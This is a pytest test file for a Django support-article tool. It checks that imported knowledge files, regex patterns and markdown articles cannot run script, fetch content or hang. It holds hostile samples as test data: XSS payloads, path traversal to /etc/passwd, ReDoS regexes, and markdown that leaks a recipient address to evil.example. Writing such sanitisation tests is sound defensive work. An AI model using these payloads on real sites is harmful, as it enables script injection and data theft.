"""What hostile knowledge can do: files that are taken in, patterns and articles that somebody writes."""

import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from diagnostics.editions import exchange
from diagnostics.knowledge.patterns import BadPattern, Pattern
from diagnostics.knowledge.remedies import fill
from diagnostics.models import DraftPage, Edition
from diagnostics.web import remedies

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("valkey")]

SLOW = ["(a+)+$", "(a|aa)+$", "(.*a){20}", "(x+x+)+y", "^(([a-z])+.)+[A-Z]([a-z])+$"]


def taken_in(client: Client, raw: bytes) -> int:
    return client.post(reverse("desk:import"), {"file": SimpleUploadedFile("knowledge.toml", raw)}).status_code


class TestAFileOfKnowledge:
    @pytest.mark.parametrize(
        "raw",
        [
            b"",
            b"\xff\xfe\x00",
            b"a = " + b"[" * 100_000,
            b"a = " + b"{a=" * 100_000,
            b".".join([b"a"] * 100_000) + b" = 1",
            b"pages = 1",
            b'format = "bounceportal-knowledge"\nversion = 1\npages = "x"',
            b'format = "bounceportal-knowledge"\nversion = 1\n[pages."../../etc/passwd"]\na = 1',
            b'format = "bounceportal-knowledge"\nversion = 99999999999999999999\n[pages.mailbox-full]\na = 1',
            b"a = " + b"9" * 10_000,
        ],
        ids=range(10),
    )
    def test_that_is_broken_is_refused(self, kei_client: Client, edition: Edition, raw: bytes) -> None:
        assert taken_in(kei_client, raw) == 422
        assert not DraftPage.objects.exists()

    @pytest.mark.parametrize(("value", "status"), [("a\\u0000b", 302), ("x" * 1_000_000, 422)])
    def test_with_hostile_texts_breaks_no_page(
        self, kei_client: Client, edition: Edition, value: str, status: int
    ) -> None:
        raw = exchange.export(edition).decode()
        head, found, rest = raw.partition("summary")
        assert found
        quote = rest.index('"')
        hostile = f"{head}{found}{rest[: quote + 1]}{value}{rest[quote + 1 :]}"
        assert taken_in(kei_client, hostile.encode()) == status
        assert kei_client.get(reverse("desk:drafts")).status_code == 200


class TestAPattern:
    @pytest.mark.parametrize("text", SLOW)
    def test_takes_time_in_proportion_to_the_text(self, text: str) -> None:
        began = time.monotonic()
        Pattern(text).span_in("a" * 100_000 + "!")
        assert time.monotonic() - began < 2

    @pytest.mark.parametrize("text", ["(?:a{1000}){1000}", "(", r"(?<=a)b", r"(a)\1", "[", "a{99999}", "\ud800"])
    def test_that_would_take_too_much_is_refused(self, text: str) -> None:
        with pytest.raises(BadPattern):
            Pattern(text)


class TestAnArticle:
    @pytest.mark.parametrize(
        "text",
        [
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\nscript:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](vbscript:x)",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](file:///etc/passwd)",
            "<a href=javascript:x>x</a>",
            "![x](https://evil.example/{recipient})",
            "<img src=//evil.example>",
            "<svg onload=alert(1)>",
            "<style>*{}</style>",
            "<form action=//evil.example><input name=a></form>",
            "[x]: javascript:alert(1)\n\n[x]",
            "<javascript:alert(1)>",
            "`<script>`\n\n<script>alert(1)</script>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ],
    )
    def test_neither_acts_nor_fetches(self, text: str) -> None:
        html = remedies.article(text, {"recipient": "a@example.com"}, "en").lower()
        for word in ("<script", "<img", "<svg", "<style", "<form", "<input", "<math"):
            assert word not in html
        for scheme in ("javascript:", "vbscript:", "data:", "file:"):
            assert f'href="{scheme}' not in html

    @pytest.mark.parametrize(
        "place", ["{subject}", "**{subject}**", "[{subject}](https://example.com/)", "`{subject}`"]
    )
    def test_takes_a_hostile_subject_for_text(self, place: str) -> None:
        hostile = "\"'><script>alert(1)</script>](javascript:x) {customer} \u202e"
        html = remedies.article(place, {"subject": hostile, "customer": "SECRET"}, "en")
        assert "<script" not in html
        assert "SECRET" not in html
        assert "\u202e" not in html
        assert html.count("href=") == place.count("](")

    def test_fills_no_value_into_the_address_of_a_link(self) -> None:
        html = remedies.article("[x](https://example.com/?{recipient})", {"recipient": '"onclick=x'}, "en")
        assert "onclick" not in html

    def test_fills_a_value_once(self) -> None:
        assert fill("{subject}", {"subject": "{customer}", "customer": "x"}, language="en") == "{customer}"
